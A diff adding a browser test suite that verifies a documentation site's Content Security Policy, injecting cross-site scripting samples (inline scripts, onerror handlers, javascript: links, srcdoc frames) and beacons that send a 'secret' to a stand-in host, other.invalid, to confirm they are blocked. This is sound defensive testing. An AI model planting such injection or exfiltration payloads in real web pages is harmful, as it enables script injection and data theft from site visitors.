@@ -1,0 +1,172 @@
+"""The content security policy: on every page, strict, kept by what we ship, and it holds."""
+
+import re
+from types import SimpleNamespace
+
+import pages
+import policy
+import pytest
+from bs4 import BeautifulSoup
+
+from softmax_lessons import interactive
+
+BUILT = sorted(path.relative_to(pages.SITE).as_posix() for path in pages.SITE.rglob("*.html"))
+LIVE = next(page for page in pages.CHAPTERS if pages.built(page).select("softmax-explorer"))
+every_file = pytest.mark.parametrize("file", BUILT)
+# Code that says so when it runs, in each way that a page can hold it.
+ATTACKS = {
+    "script": "<script>window.ran = 1</script>",
+    "module": '<script type="module">window.ran = 1</script>',
+    "handler": '<img src="data:," onerror="window.ran = 1">',
+    "link": '<a href="javascript:window.ran = 1">link</a>',
+    "frame": '<iframe srcdoc="<script>parent.ran = 1</script>"></iframe>',
+    "file": '<script src="data:text/javascript,window.ran = 1"></script>',
+    "host": '<script src="https://other.invalid/a.js"></script>',
+}
+# What may not leave the page, or change it.
+LEAKS = {
+    "fetch": "fetch('https://other.invalid/?secret').catch(() => {})",
+    "own": "fetch('?secret').catch(() => {})",
+    "picture": "new Image().src = 'https://other.invalid/?secret'",
+    "style": "document.head.append(Object.assign(document.createElement('style'), "
+    "{ textContent: 'p { color: red }' }))",
+    "code": "setTimeout('window.ran = 1')",
+    "base": "document.head.append(Object.assign(document.createElement('base'), "
+    "{ href: 'https://other.invalid/' }))",
+    "form": "document.body.append(Object.assign(document.createElement('form'), "
+    "{ action: 'https://other.invalid/' })), document.forms[document.forms.length - 1].submit()",
+}
+
+
+def head(file):
+    return BeautifulSoup((pages.SITE / file).read_text(), "html.parser").head
+
+
+def rules(file):
+    """What a page's policy allows, by kind."""
+    (tag,) = head(file).select('meta[http-equiv="Content-Security-Policy"]')
+    return {name: set(sources) for name, *sources in map(str.split, tag["content"].split(";"))}
+
+
+@pytest.fixture
+def visit(browser, server):
+    """Open a page, changed on its way if asked for; note what its policy forbids."""
+    context = browser.new_context()
+    context.add_init_script(
+        "window.forbidden = [];"
+        "addEventListener('securitypolicyviolation',"
+        " event => forbidden.push(event.effectiveDirective));"
+    )
+
+    def open_page(page, change=lambda html: html):
+        tab = context.new_page()
+        address = f"{server}{page}.html"
+
+        def answer(route):
+            response = route.fetch()
+            route.fulfill(response=response, body=change(response.text()))
+
+        tab.route(address, answer)
+        tab.goto(address, wait_until="load")
+        return tab
+
+    yield open_page
+    context.close()
+
+
+@every_file
+def test_policy_is_strict(file):
+    found = rules(file)
+    assert found["default-src"] == found["base-uri"] == {"'none'"}
+    assert found["form-action"] == found["font-src"] == {"'self'"}
+    assert found["img-src"] == {"'self'", "data:"}
+    assert found["style-src-elem"] == {"'self'", policy.digest(policy.STYLE_WITHOUT_SCRIPTS)}
+    assert all(re.fullmatch(r"'self'|'sha256-.{44}'", source) for source in found["script-src"])
+    assert not set(found) - {
+        "default-src", "base-uri", "form-action", "font-src", "img-src", "script-src",
+        "style-src", "style-src-elem", "style-src-attr",
+    }  # fmt: skip
+
+
+@every_file
+def test_policy_comes_before_all_that_it_governs(file):
+    tags = [tag.get("http-equiv") or tag.name for tag in head(file).find_all(True)]
+    first = tags.index("Content-Security-Policy")
+    assert not set(tags[:first]) & {"script", "style", "link", "base"}
+
+
+@pytest.mark.parametrize("page", pages.PAGES)
+def test_hashes_are_those_of_the_live_figures_on_the_page(page):
+    modules = {live.name.partition("-")[2] for live in pages.built(page).select(".softmax-live")}
+    scripts = [f"\n{interactive._script(module)}" for module in modules]
+    assert rules(f"{page}.html")["script-src"] == {"'self'", *map(policy.digest, scripts)}
+
+
+@every_file
+def test_no_tag_holds_a_script_of_its_own(file):
+    soup = BeautifulSoup((pages.SITE / file).read_text(), "html.parser")
+    for tag in soup.find_all(True):
+        assert not [name for name in tag.attrs if name.startswith("on")], tag
+        assert not str(tag.get("href", "")).startswith("javascript:"), tag
+
+
+@pytest.mark.parametrize(
+    "body", ["<p></p>\n<script>x</script>", "</softmax-check><b></b><script>x</script>"]
+)
+def test_a_script_that_is_none_of_ours_is_a_warning_and_gets_no_hash(body, monkeypatch):
+    said = []
+    logger = SimpleNamespace(warning=lambda text, location: said.append(location))
+    monkeypatch.setattr(policy, "logger", logger)
+    context = {"body": body}
+    policy.set_policy(None, "page", "page.html", context, None)
+    assert said == ["page"]
+    assert context["content_policy"] == policy.policy([])
+
+
+@pytest.mark.parametrize("page", [LIVE, "search", "404"])
+def test_what_we_ship_keeps_to_the_policy(visit, page):
+    tab = visit(page)
+    for live in tab.locator(".softmax-live").all():
+        assert live.locator("form").count() == 1, "the live figure does not run"
+    tab.keyboard.press("Control+k")
+    tab.locator("dialog input[type=search]").wait_for(state="visible")
+    tab.keyboard.type("logits")
+    tab.keyboard.press("Enter")
+    tab.locator("#search-results li a").first.wait_for(timeout=10_000)
+    assert tab.evaluate("forbidden") == []
+
+
+def test_the_print_button_prints(visit):
+    tab = visit(LIVE)
+    tab.evaluate("window.print = () => window.printed = true")
+    tab.locator(".btn-download-pdf-button").dispatch_event("click")
+    assert tab.evaluate("window.printed && !forbidden.length")
+
+
+@pytest.mark.parametrize("attack", ATTACKS.values(), ids=list(ATTACKS))
+def test_code_that_gets_into_a_page_does_not_run(visit, attack):
+    tab = visit(LIVE, lambda html: html.replace("</article>", f"{attack}</article>"))
+    if "<a " in attack:
+        tab.locator("a[href^='javascript:']").click()
+    tab.wait_for_function("forbidden.length")
+    assert tab.evaluate("window.ran === undefined")
+    # The page without its policy is the proof that the attack is one.
+    bare = visit(
+        LIVE, lambda html: without_policy(html).replace("</article>", f"{attack}</article>")
+    )
+    if "<a " in attack:
+        bare.locator("a[href^='javascript:']").click()
+    if "other.invalid" not in attack:
+        bare.wait_for_function("window.ran === 1")
+
+
+def without_policy(html):
+    return re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", html)
+
+
+@pytest.mark.parametrize("leak", LEAKS.values(), ids=list(LEAKS))
+def test_nothing_is_sent_or_dressed_up(visit, leak):
+    tab = visit(LIVE)
+    tab.evaluate(f"() => {{ {leak} }}")
+    tab.wait_for_function("forbidden.length")
+    assert tab.evaluate("window.ran === undefined")
